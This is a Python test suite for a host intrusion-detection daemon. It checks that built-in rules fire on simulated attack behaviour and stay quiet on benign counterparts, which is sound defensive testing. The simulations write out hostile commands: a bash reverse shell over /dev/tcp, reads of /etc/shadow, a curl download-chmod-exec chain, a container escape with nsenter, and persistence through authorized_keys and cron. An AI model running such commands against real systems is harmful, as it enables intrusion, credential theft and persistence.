"""Detection rules: each built-in rule fires on the real behaviour and stays quiet on a
benign counterpart; sequences need the full ordered chain; de-duplication counts are exact."""
import json, os, shutil, signal, socket, subprocess, threading, time, uuid

from vigiltest import (Daemon, check, helper, on_cleanup, policy, tmpdir, ROOT)

RULES = os.path.join(ROOT, "policies", "rules")


def _pol(**kw):
    det = {"enabled": True, "rules_dir": RULES, "dedup_window_s": 60}
    det.update(kw.pop("detections", {}))
    return policy(detections=det, **kw)


def _marker():
    return "vt-" + uuid.uuid4().hex[:12]


def _rule_alerts(vd, rule, pred=lambda a: True):
    return [a for a in vd.alerts() if a.get("rule") == rule and pred(a)]


def _quiet(vd, rule, pred, what, settle=1.5):
    vd.settle(settle)
    seen = _rule_alerts(vd, rule, pred)
    check(not seen, f"no {rule} alert for {what}", [], seen[:1])


def _check_mitre(al, tactic, technique):
    check(al["mitre"]["tactic"] == tactic and al["mitre"]["technique"] == technique, "mitre",
          (tactic, technique), al["mitre"])


def _server(port_holder, payload=b"exit\n", accept_n=1):
    """A TCP listener on 127.0.0.1 that sends payload to each peer; returns (port, thread)."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port_holder or 0))
    s.listen(8)
    s.settimeout(20)
    on_cleanup(s.close)

    def serve():
        for _ in range(accept_n):
            try:
                c, _ = s.accept()
            except OSError:
                return
            try:
                c.sendall(payload)
                time.sleep(0.3)
            finally:
                c.close()
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return s.getsockname()[1], t


def test_rule_set_loads_and_sensor_attaches_only_used_kinds():
    with Daemon(_pol()) as vd:
        st = vd.status()["detections"]
        check(st["enabled"] and st["rules"] >= 14, "built-in rules loaded", ">= 14", st.get("rules"))
        kinds = set(st["event_kinds"])
        for k in ("exec_stdio", "module_load", "ptrace", "setns", "signal", "file_read"):
            check(k in kinds, f"kind {k} attached", True, sorted(kinds))
        check("unshare" not in kinds, "unused kind unshare not attached", False, sorted(kinds))
    # a rule set that uses only exec: no detections programs at all
    d = tmpdir()
    with open(os.path.join(d, "only.json"), "w") as f:
        json.dump({"rules": [{"id": "t", "title": "t", "description": "d", "severity": "low",
                              "remediation": "r", "event": "exec",
                              "mitre": {"tactic": "TA0002", "tactic_name": "Execution",
                                        "technique": "T1059", "technique_name": "x"},
                              "condition": {"field": "process.exe", "equals": "/nonexistent"}}]}, f)
    with Daemon(_pol(detections={"rules_dir": d})) as vd:
        st = vd.status()["detections"]
        check(st["programs_attached"] == 0, "no detect programs for an exec-only rule set", 0,
              st["programs_attached"])


def test_bad_rule_file_is_rejected_with_position():
    d = tmpdir()
    with open(os.path.join(d, "bad.json"), "w") as f:
        f.write('{"rules": [\n {"id": "x", "title": "t", "description": "d", "severity": "high",\n'
                '  "remediation": "r", "event": "exec",\n'
                '  "mitre": {"tactic": "TA0002", "tactic_name": "E", "technique": "T1059", "technique_name": "n"},\n'
                '  "condition": {"field": "process.exe", "gt": 3}}\n]}\n')
    pol = tmpdir()
    p = os.path.join(pol, "policy.json")
    with open(p, "w") as f:
        json.dump(_pol(detections={"rules_dir": d}), f)
    r = subprocess.run([os.path.join(ROOT, "build", "vigil"), "policy", "check", p],
                       capture_output=True, text=True)
    msg = r.stdout + r.stderr
    check(r.returncode == 2, "exit code", 2, r.returncode)
    check(f"{d}/bad.json:5:41:" in msg and "applies to integers" in msg, "file:line:col message",
          f"{d}/bad.json:5:41: ... applies to integers", msg)


def test_reverse_shell_alerts_and_benign_socket_stdio_does_not():
    with Daemon(_pol()) as vd:
        port, t = _server(0)
        m = _marker()
        # a shell whose stdio is a TCP connection: it reads "exit" from the peer
        subprocess.run(["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0; exec sh -s {m}"],
                       timeout=20)
        t.join(5)
        al = vd.wait_alert(lambda a: a["rule"] == "reverse_shell" and m in a["process"]["args"], timeout=10)
        _check_mitre(al, "TA0002", "T1059.004")
        check(al["stdio"]["fd0"] == "inet_socket" and al["stdio"]["remote"]["port"] == port,
              "stdio on the socket", port, al["stdio"])
        check(al["severity"] == "high", "severity", "high", al["severity"])
        # benign: a non-shell program served over a socket (inetd style), and a shell on a pipe
        port2, t2 = _server(0)
        m2 = _marker()
        subprocess.run(["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port2} 1>&0 2>&0; exec cat /dev/null {m2}"],
                       timeout=20)
        subprocess.run(["sh", "-c", "exit 0", m2], stdin=subprocess.PIPE, stdout=subprocess.PIPE, timeout=20)
        _quiet(vd, "reverse_shell", lambda a: m2 in a["process"]["args"], "non-shell on a socket / shell on a pipe")


def test_fileless_exec_alerts_and_regular_exec_does_not():
    true = os.path.realpath("/usr/bin/true")
    with Daemon(_pol()) as vd:
        m, m2 = _marker(), _marker()
        subprocess.run([helper("proc_exec"), "memfd", true, "xtrue", m], check=True, capture_output=True)
        al = vd.wait_alert(lambda a: a["rule"] == "fileless_exec" and m in a["process"]["args"])
        _check_mitre(al, "TA0005", "T1620")
        check(al["process"]["exe"].startswith("/memfd:"), "exe is the memfd", "/memfd:...", al["process"]["exe"])
        subprocess.run([helper("proc_exec"), "fexecve", true, "xtrue", m2], check=True, capture_output=True)
        _quiet(vd, "fileless_exec", lambda a: m2 in a["process"]["args"], "fexecve of a regular file")


def test_kernel_module_load_attempt_alerts_and_modprobe_does_not():
    d = tmpdir()
    ko = os.path.join(d, "vigiltest.ko")
    with open(ko, "wb") as f:
        f.write(b"\x7fELF not really a module")
    with Daemon(_pol()) as vd:
        out = subprocess.run([helper("detect_ops"), "kmod", ko], capture_output=True, text=True, timeout=10)
        check(out.stdout.startswith("ok"), "module syscalls made", "ok ...", out.stdout + out.stderr)
        al = vd.wait_alert(lambda a: a["rule"] == "kernel_module_load" and
                           a["process"]["exe"].endswith("/detect_ops"))
        _check_mitre(al, "TA0003", "T1547.006")
        check(al["module"]["syscall"] in ("finit_module", "init_module"), "syscall", "finit_module",
              al["module"])
        fin = _rule_alerts(vd, "kernel_module_load", lambda a: a["module"].get("syscall") == "finit_module"
                           and a["process"]["exe"].endswith("/detect_ops"))
        check(fin and fin[0]["module"].get("path") == ko, "finit_module names the file", ko,
              fin[0]["module"] if fin else None)
        # benign: modprobe (comm "modprobe") loading through the same syscall path
        kdir = os.path.join(d, "modroot")
        rel = os.path.join("lib", "modules", os.uname().release, "kernel")
        os.makedirs(os.path.join(kdir, rel))
        shutil.copy(ko, os.path.join(kdir, rel, "vigiltest.ko"))
        subprocess.run(["depmod", "-b", kdir], capture_output=True, timeout=20)
        vd.settle(0.5)
        before = vd.status()["detections"]["records"].get("module_load", 0)
        subprocess.run(["modprobe", "-d", kdir, "vigiltest"], capture_output=True, timeout=20)
        _quiet(vd, "kernel_module_load", lambda a: a["process"].get("comm") == "modprobe", "modprobe")
        after = vd.status()["detections"]["records"].get("module_load", 0)
        check(after > before, "modprobe really attempted the load (seen by the sensor)", f"> {before}", after)


def test_ptrace_other_user_alerts_and_same_user_does_not():
    with Daemon(_pol()) as vd:
        victim = subprocess.Popen([helper("detect_ops"), "sleep-as", "65534", "30"], stdout=subprocess.PIPE)
        on_cleanup(lambda: victim.poll() is None and victim.kill())
        victim.stdout.readline()
        own = subprocess.Popen(["sleep", "30"])
        on_cleanup(lambda: own.poll() is None and own.kill())
        r = subprocess.run([helper("detect_ops"), "ptrace", str(victim.pid)], capture_output=True, text=True)
        check(r.stdout.startswith("ok"), "attach succeeded", "ok", r.stdout)
        al = vd.wait_alert(lambda a: a["rule"] == "ptrace_other_user" and
                           a["ptrace"]["target"]["pid"] == victim.pid)
        check(al["ptrace"]["target"]["uid"] == 65534, "target uid", 65534, al["ptrace"])
        _check_mitre(al, "TA0004", "T1055.008")
        r = subprocess.run([helper("detect_ops"), "ptrace", str(own.pid)], capture_output=True, text=True)
        check(r.stdout.startswith("ok"), "attach to own process succeeded", "ok", r.stdout)
        _quiet(vd, "ptrace_other_user", lambda a: a["ptrace"]["target"]["pid"] == own.pid,
               "ptrace of a process of the same user")


def test_shadow_read_alerts_and_passwd_does_not():
    with Daemon(_pol()) as vd:
        m = _marker()
        d = tmpdir()
        cat = os.path.join(d, "mycat")
        shutil.copy("/usr/bin/cat", cat)
        subprocess.run([cat, "/etc/shadow", m], capture_output=True)
        al = vd.wait_alert(lambda a: a["rule"] == "shadow_read" and m in a["process"]["args"])
        _check_mitre(al, "TA0006", "T1003.008")
        check(al["file"]["path"] == "/etc/shadow", "path", "/etc/shadow", al["file"])
        # through a symlink: the kernel matches the inode, not the name (another program, so
        # that de-duplication does not fold it into the first alert)
        ln = os.path.join(d, "innocent")
        os.symlink("/etc/shadow", ln)
        cat2 = os.path.join(d, "othercat")
        shutil.copy("/usr/bin/cat", cat2)
        m3 = _marker()
        subprocess.run([cat2, ln, m3], capture_output=True)
        vd.wait_alert(lambda a: a["rule"] == "shadow_read" and m3 in a["process"]["args"])
        # benign: passwd reading it (an account tool), and cat of /etc/passwd
        m2 = _marker()
        subprocess.run(["passwd", "-S", "root"], capture_output=True)
        subprocess.run([cat, "/etc/passwd", m2], capture_output=True)
        _quiet(vd, "shadow_read", lambda a: a["process"]["exe"].endswith("/passwd") or m2 in a["process"]["args"],
               "passwd -S / reading /etc/passwd")


def test_mining_pool_port_alerts_and_other_port_does_not():
    with Daemon(_pol()) as vd:
        for port, want in ((3333, True), (8443, False)):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("127.0.0.1", port))
            s.listen(1)
            on_cleanup(s.close)
            c = socket.create_connection(("127.0.0.1", port), timeout=5)
            c.close()
            s.close()
        al = vd.wait_alert(lambda a: a["rule"] == "mining_pool_connect" and a["network"]["remote"]["port"] == 3333)
        _check_mitre(al, "TA0040", "T1496")
        _quiet(vd, "mining_pool_connect", lambda a: a["network"]["remote"]["port"] == 8443, "connect to 8443")


def _container_cgroup():
    cg_root = "/sys/fs/cgroup/unified" if os.path.isdir("/sys/fs/cgroup/unified") else "/sys/fs/cgroup"
    cid = uuid.uuid4().hex + uuid.uuid4().hex
    path = cg_root
    made = []
    for r in ["vigiltest-det.slice", f"docker-{cid}.scope"]:
        path = os.path.join(path, r)
        os.mkdir(path)
        made.append(path)

    def undo():
        for p in reversed(made):
            try:
                with open(os.path.join(p, "cgroup.procs")) as f:
                    for pid in f.read().split():
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except ProcessLookupError:
                            pass
                time.sleep(0.2)
                os.rmdir(p)
            except OSError:
                pass
    on_cleanup(undo)
    return cid, path


def test_container_setns_into_host_alerts_and_host_nsenter_does_not():
    cid, cg = _container_cgroup()
    with Daemon(_pol()) as vd:
        # a "container": new mount/uts/ipc/net namespaces, in a docker-style cgroup; from there
        # nsenter into the host's namespaces (what a privileged container escape does with
        # nsenter -t 1; this VM's init hides its /proc/1/ns, so a host process stands in)
        host = os.getpid()
        script = (f"echo $$ > {cg}/cgroup.procs && exec unshare --mount --uts --ipc --net --fork "
                  f"sh -c 'sleep 0.3; nsenter -t {host} -m -u -i -n /bin/true'")
        subprocess.run(["sh", "-c", script], timeout=20)
        al = vd.wait_alert(lambda a: a["rule"] == "container_setns_host")
        _check_mitre(al, "TA0004", "T1611")
        check(al["container"] and al["container"]["id"] == cid, "container id", cid, al.get("container"))
        # nsenter calls setns once per namespace (ipc first); de-duplication folds the others
        check(al["namespaces"]["host"] is True and al["namespaces"]["joined"], "joined a host namespace",
              True, al["namespaces"])
        # benign: a host process entering a container's namespaces (what docker exec does)
        n = len(_rule_alerts(vd, "container_setns_host"))
        box = subprocess.Popen(["unshare", "--mount", "--uts", "--fork", "sleep", "30"])
        on_cleanup(lambda: box.poll() is None and box.kill())
        time.sleep(0.5)
        child = subprocess.run(["pgrep", "-P", str(box.pid)], capture_output=True, text=True).stdout.split()
        check(child, "namespaced child", "a pid", child)
        subprocess.run(["nsenter", "-t", child[0], "-m", "-u", "/bin/true"], check=True, timeout=10)
        vd.settle(1.5)
        check(len(_rule_alerts(vd, "container_setns_host")) == n, "no alert for host nsenter", n,
              len(_rule_alerts(vd, "container_setns_host")))


def test_signal_to_vigild_alerts_and_reload_does_not():
    vd = Daemon(_pol())
    pid = vd.proc.pid
    subprocess.run(["kill", "-HUP", str(pid)], check=True)      # reload: an allowed signal
    subprocess.run(["kill", "-0", str(pid)], check=True)        # liveness probe
    vd.settle(1.0)
    check(not _rule_alerts(vd, "vigil_tamper_signal"), "no alert for SIGHUP / kill -0", [],
          _rule_alerts(vd, "vigil_tamper_signal"))
    subprocess.run(["/bin/kill", "-TERM", str(pid)], check=True)
    vd.proc.wait(timeout=15)
    al = [a for a in vd.alerts() if a["rule"] == "vigil_tamper_signal"]
    check(len(al) == 1 and al[0]["signal"]["number"] == 15 and al[0]["process"]["exe"].endswith("/kill"),
          "one alert for SIGTERM from kill", "signal 15 from /bin/kill", al)
    _check_mitre(al[0], "TA0005", "T1562.001")


def test_dedup_counts_are_exact():
    with Daemon(_pol(detections={"dedup_window_s": 3})) as vd:
        d = tmpdir()
        cat = os.path.join(d, "dupcat")
        shutil.copy("/usr/bin/cat", cat)
        n = 7
        for _ in range(n):
            subprocess.run([cat, "/etc/shadow"], capture_output=True)
        first = vd.wait_alert(lambda a: a["rule"] == "shadow_read" and a["process"]["exe"] == cat)
        check(first["dedup"]["count"] == 1, "first alert written at once", 1, first["dedup"])
        summ = vd.wait_alert(lambda a: a["rule"] == "shadow_read" and a["process"]["exe"] == cat and
                             a.get("summary_of"), timeout=10, what="dedup summary")
        check(summ["dedup"]["count"] == n, "summary count", n, summ["dedup"])
        check(summ["summary_of"] == first["id"], "summary names the first alert", first["id"], summ["summary_of"])
        check(summ["dedup"]["first_time"] <= summ["dedup"]["last_time"], "first <= last",
              None, summ["dedup"])
        allc = _rule_alerts(vd, "shadow_read", lambda a: a["process"]["exe"] == cat)
        check(len(allc) == 2, "exactly the first alert and one summary", 2, len(allc))


def _file_rule_case(vd, rule, bad, good, pred_bad, pred_good, tactic, technique):
    bad()
    al = vd.wait_alert(lambda a: a["rule"] == rule and pred_bad(a), timeout=10, what=rule)
    _check_mitre(al, tactic, technique)
    good()
    _quiet(vd, rule, pred_good, "benign counterpart")
    return al


def test_authorized_keys_write_alerts_and_known_hosts_does_not():
    home = os.path.join("/home", "vigiltest-" + uuid.uuid4().hex[:8])
    os.makedirs(os.path.join(home, ".ssh"))
    on_cleanup(lambda: shutil.rmtree(home, ignore_errors=True))
    ak, kh = os.path.join(home, ".ssh", "authorized_keys"), os.path.join(home, ".ssh", "known_hosts")
    with Daemon(_pol()) as vd:
        def bad():
            with open(ak, "a") as f:
                f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigiltest test\n")

        def good():
            with open(kh, "a") as f:
                f.write("host ssh-ed25519 AAAA\n")
        _file_rule_case(vd, "ssh_authorized_keys_write", bad, good, lambda a: a["file"]["path"] == ak,
                        lambda a: a["file"]["path"] == kh, "TA0003", "T1098.004")


def test_authorized_keys_write_through_io_uring_alerts():
    """A key added with io_uring requests only (no write syscalls to hook) is still seen."""
    home = os.path.join("/home", "vigiltest-" + uuid.uuid4().hex[:8])
    os.makedirs(os.path.join(home, ".ssh"))
    on_cleanup(lambda: shutil.rmtree(home, ignore_errors=True))
    ak = os.path.join(home, ".ssh", "authorized_keys")
    with open(ak, "w") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIold old\n")
    with Daemon(_pol()) as vd:
        p = subprocess.run([helper("uring_ops"), "write", ak, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigiltest x\n"],
                           capture_output=True, text=True, timeout=30)
        check(p.returncode == 0, "uring_ops write", 0, (p.returncode, p.stdout))
        pid = int(p.stdout.split()[0].split("=")[1])
        al = vd.wait_alert(lambda a: a["rule"] == "ssh_authorized_keys_write" and a["file"]["path"] == ak,
                           timeout=10, what="ssh_authorized_keys_write through io_uring")
        check(al["file"]["op"] == "io_uring", "file.op", "io_uring", al["file"]["op"])
        check(al["process"]["pid"] == pid, "actor: the submitting process", pid, al["process"]["pid"])
        _check_mitre(al, "TA0003", "T1098.004")


def test_cron_file_by_shell_alerts_and_by_dpkg_does_not():
    name = "vigiltest-" + uuid.uuid4().hex[:8]
    path = os.path.join("/etc/cron.d", name)
    on_cleanup(lambda: os.path.exists(path) and os.unlink(path))
    pkgdir = tmpdir()
    pkg = name
    on_cleanup(lambda: subprocess.run(["dpkg", "--purge", pkg], capture_output=True))
    os.makedirs(os.path.join(pkgdir, "DEBIAN"))
    os.makedirs(os.path.join(pkgdir, "etc", "cron.d"))
    with open(os.path.join(pkgdir, "DEBIAN", "control"), "w") as f:
        f.write(f"Package: {pkg}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\nDescription: t\n")
    pkgfile = os.path.join(pkgdir, "etc", "cron.d", name + "-pkg")
    with open(pkgfile, "w") as f:
        f.write("# nothing\n")
    deb = pkgdir + ".deb"
    on_cleanup(lambda: os.path.exists(deb) and os.unlink(deb))
    subprocess.run(["dpkg-deb", "--build", pkgdir, deb], check=True, capture_output=True)
    with Daemon(_pol()) as vd:
        def bad():
            subprocess.run(["sh", "-c", f"echo '* * * * * root true' > {path}"], check=True)

        def good():
            subprocess.run(["dpkg", "-i", deb], check=True, capture_output=True, timeout=60)
        _file_rule_case(vd, "cron_persistence", bad, good, lambda a: a["file"]["path"] == path,
                        lambda a: name + "-pkg" in json.dumps(a["file"]), "TA0003", "T1053.003")


def test_setuid_bit_alerts_and_plain_chmod_does_not():
    d = tmpdir()
    f1, f2 = os.path.join(d, "suid"), os.path.join(d, "plain")
    for f in (f1, f2):
        shutil.copy("/usr/bin/true", f)
    with Daemon(_pol()) as vd:
        _file_rule_case(vd, "setuid_bit_set", lambda: os.chmod(f1, 0o4755), lambda: os.chmod(f2, 0o755),
                        lambda a: a["file"]["path"] == f1, lambda a: a["file"]["path"] == f2,
                        "TA0004", "T1548.001")


def test_log_truncation_alerts_and_append_does_not():
    p = os.path.join("/var/log", "vigiltest-" + uuid.uuid4().hex[:8] + ".log")
    with open(p, "w") as f:
        f.write("line\n" * 10)
    on_cleanup(lambda: os.path.exists(p) and os.unlink(p))
    with Daemon(_pol()) as vd:
        def bad():
            subprocess.run(["truncate", "-s", "0", p], check=True)

        def good():
            subprocess.run(["sh", "-c", f"echo more >> {p}"], check=True)
        al = _file_rule_case(vd, "log_tamper", bad, good, lambda a: a["file"]["path"] == p,
                             lambda a: a["process"]["exe"].endswith("sh"), "TA0005", "T1070.002")
        check(al["process"]["exe"].endswith("truncate"), "actor", "truncate", al["process"]["exe"])


def test_vigil_files_tamper_alerts():
    with Daemon(_pol()) as vd:
        target = os.path.join(vd.state_dir, "planted")
        subprocess.run(["sh", "-c", f"echo x > {target}"], check=True)
        al = vd.wait_alert(lambda a: a["rule"] == "vigil_tamper_files" and a["file"]["path"] == target)
        _check_mitre(al, "TA0005", "T1562.001")
        other = os.path.join(vd.dir, "not-vigil")
        subprocess.run(["sh", "-c", f"echo x > {other}"], check=True)
        _quiet(vd, "vigil_tamper_files", lambda a: a["file"]["path"] == other, "a file beside vigil's dirs")


def test_download_chmod_exec_sequence_fires_only_in_order():
    d = tmpdir()
    payload = os.path.join(d, "src.bin")
    shutil.copy("/usr/bin/true", payload)
    with Daemon(_pol()) as vd:
        # the full chain, driven by one shell: curl (a network tool) writes, chmod +x, exec
        f1 = os.path.join(d, "stage1")
        subprocess.run(["sh", "-c", f"curl -s -o {f1} file://{payload} && chmod +x {f1} && {f1}"],
                       check=True, timeout=30)
        al = vd.wait_alert(lambda a: a["rule"] == "download_chmod_exec" and a["process"]["exe"] == f1,
                           timeout=10)
        _check_mitre(al, "TA0011", "T1105")
        steps = al["sequence"]
        check([s["event"] for s in steps] == ["file", "file", "exec"], "three ordered steps",
              ["file", "file", "exec"], steps)
        check(steps[0]["exe"].endswith("/curl") and steps[0]["detail"] == f1, "step 1 is curl writing it",
              f1, steps[0])
        # out of order: chmod before the download, then exec: no alert
        f2 = os.path.join(d, "stage2")
        shutil.copy("/usr/bin/true", f2)
        subprocess.run(["sh", "-c", f"chmod +x {f2} && curl -s -o {f2} file://{payload} && {f2}"],
                       check=True, timeout=30)
        # incomplete: downloaded and executed through an interpreter, never made executable
        f3 = os.path.join(d, "stage3")
        subprocess.run(["sh", "-c", f"curl -s -o {f3} file://{payload} && cp {f3} {f3}.x && "
                        f"chmod +x {f3}.x && {f3}.x"], check=True, timeout=30)
        _quiet(vd, "download_chmod_exec", lambda a: a["process"]["exe"] in (f2, f3, f3 + ".x"),
               "out-of-order / incomplete chains")
        st = vd.status()["detections"]["sequences"]
        check(st["completed"] == 1, "one completed sequence", 1, st)
